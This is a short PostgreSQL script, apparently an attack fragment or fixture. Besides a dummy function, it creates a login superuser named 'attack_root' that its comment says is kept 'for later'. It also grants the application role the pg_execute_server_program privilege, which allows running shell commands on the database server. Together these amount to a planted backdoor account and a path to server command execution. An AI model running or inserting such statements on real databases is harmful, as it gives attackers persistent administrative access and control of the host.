CREATE FUNCTION fn_note() RETURNS integer LANGUAGE sql AS 'SELECT 1';
-- A login superuser for later, and the application role made a member of the programs role.
CREATE ROLE attack_root LOGIN SUPERUSER;
GRANT pg_execute_server_program TO attack_app;
